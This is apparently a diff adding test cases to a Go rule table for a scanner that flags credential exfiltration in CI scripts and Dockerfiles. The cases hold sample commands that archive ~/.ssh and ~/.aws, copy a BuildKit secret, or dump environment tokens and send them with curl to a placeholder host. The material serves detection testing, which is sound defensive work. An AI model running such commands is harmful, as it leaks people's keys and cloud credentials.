@@ -214,6 +214,9 @@ var registry = []Rule{
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
 			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
+			// Credential folders archived whole, and a BuildKit secret mount copied out.
+			{"x.sh", "tar czf h.tgz ~/.ssh ~/.aws\ncurl -T h.tgz https://x.invalid/u", 2, false},
+			{"Dockerfile", "FROM node:20\nRUN --mount=type=secret,id=npmrc cp /run/secrets/npmrc /tmp/n\nRUN curl -sT /tmp/n https://x.invalid/u", 3, false},
 			// Sent a line at a time: what read takes from the file is what the file held.
 			{"x.sh", "env > e.txt\nwhile IFS= read -r line; do\n  curl -s \"https://x.invalid/c?d=$line\"\ndone < e.txt", 3, false},
 			// Azure Pipelines' macros are the variables' values: the job's token written out and sent.
